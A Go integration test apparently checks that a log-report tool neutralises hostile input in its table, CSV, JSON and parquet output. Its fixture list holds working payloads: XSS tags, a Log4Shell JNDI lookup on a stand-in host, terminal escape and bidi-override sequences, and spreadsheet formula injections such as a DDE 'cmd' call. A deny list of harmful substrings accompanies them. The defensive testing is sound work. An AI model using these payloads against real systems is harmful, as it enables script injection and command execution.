package integration

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile are texts that do harm in a page, a terminal or a spreadsheet, and what of them must never come out.
var (
	hostile = []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/a}",
		"\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b31m", "\u202egpj.exe", "\u2066hidden\u2069", "a\u0000b", "line\r\nbreak", "tab\tcell", "bell\x07",
		"=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "|calc", "%0a=1+1", ";=1+1;", "\",\"=1+1\",\"",
	}
	harmful = []string{"<script", "<img", "<svg", "onerror", "onload", "jndi", "HYPERLINK", "cmd|", "SUM(", "\x1b[", "\x1b]", "\u202e", "\u2066", "alert"}
)

// hostileLog has each of the texts as host, path, agent, referrer, method and protocol, each from enough visitors to be shown.
func hostileLog(t *testing.T) []byte {
	t.Helper()
	var log bytes.Buffer
	for i, text := range hostile {
		for visitor := range 2 * crowd {
			for _, host := range []string{"good.example.org", text, text + ".example.org"} {
				line, err := json.Marshal(object{
					"time": fmt.Sprintf("2026-05-04T12:%02d:%02dZ", i, visitor), "host": host, "remote_addr": fmt.Sprintf("198.51.%d.%d", visitor, i+1), "method": text,
					"uri": "/" + text, "args": text, "status": 200, "body_bytes_sent": 1, "http_user_agent": text, "http_referer": "https://" + text + "/" + text,
					"protocol": text,
				})
				if err != nil {
					t.Fatal(err)
				}
				log.Write(append(line, '\n'))
			}
		}
	}
	return log.Bytes()
}

// TestHostileTexts: in no output, not even with --k 1, is there anything that a terminal, a browser or a spreadsheet could take for more than text.
func TestHostileTexts(t *testing.T) {
	path := fileOf(t, "hostile.jsonl", hostileLog(t))
	for _, k := range []string{"1", "10"} {
		for _, by := range []string{"minute", "all"} {
			for _, format := range []string{"table", "csv", "json", "parquet"} {
				what := fmt.Sprintf("--k %s --by %s --format %s", k, by, format)
				r := shell(t, "report", "--k", k, "--by", by, "--format", format, path)
				r.expect(t, what, 0, "0 not readable")
				if !strings.Contains(r.stdout, "good.example.org") {
					t.Errorf("%s shows no site", what)
				}
				checkHarmless(t, what+", standard error", r.stderr)
				switch format {
				case "parquet":
					checkNoneOf(t, what, string(parquetValues(t, []byte(r.stdout))))
				case "csv":
					checkHarmless(t, what, r.stdout)
					checkCells(t, what, r.stdout)
				case "json":
					checkHarmless(t, what, r.stdout)
					checkJSON(t, what, r.stdout)
				default:
					checkHarmless(t, what, r.stdout)
				}
			}
		}
	}
}

// checkHarmless takes line ends for the only characters that are no text.
func checkHarmless(t *testing.T, what, output string) {
	t.Helper()
	if !utf8.ValidString(output) {
		t.Errorf("%s is no UTF-8", what)
	}
	for _, c := range output {
		if c != '\n' && !unicode.IsPrint(c) {
			t.Fatalf("%s holds %U", what, c)
		}
	}
	checkNoneOf(t, what, output)
}

func checkNoneOf(t *testing.T, what, output string) {
	t.Helper()
	for _, text := range harmful {
		if strings.Contains(output, text) {
			t.Errorf("%s holds %q", what, text)
		}
	}
}

// checkCells looks for what spreadsheets take for a formula: they go by the first character of a cell.
func checkCells(t *testing.T, what, output string) {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(output)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	for _, record := range records {
		for i, cell := range record {
			if cell != "" && strings.ContainsRune("=+-@|%\t", rune(cell[0])) {
				t.Errorf("%s: %s is the formula %q", what, records[0][i], cell)
			}
		}
	}
}

// checkJSON decodes every string: an escape must not hide what a reader then shows.
func checkJSON(t *testing.T, what, output string) {
	t.Helper()
	for line := range strings.Lines(output) {
		var row any
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		checkHarmless(t, what, fmt.Sprint(row))
	}
}
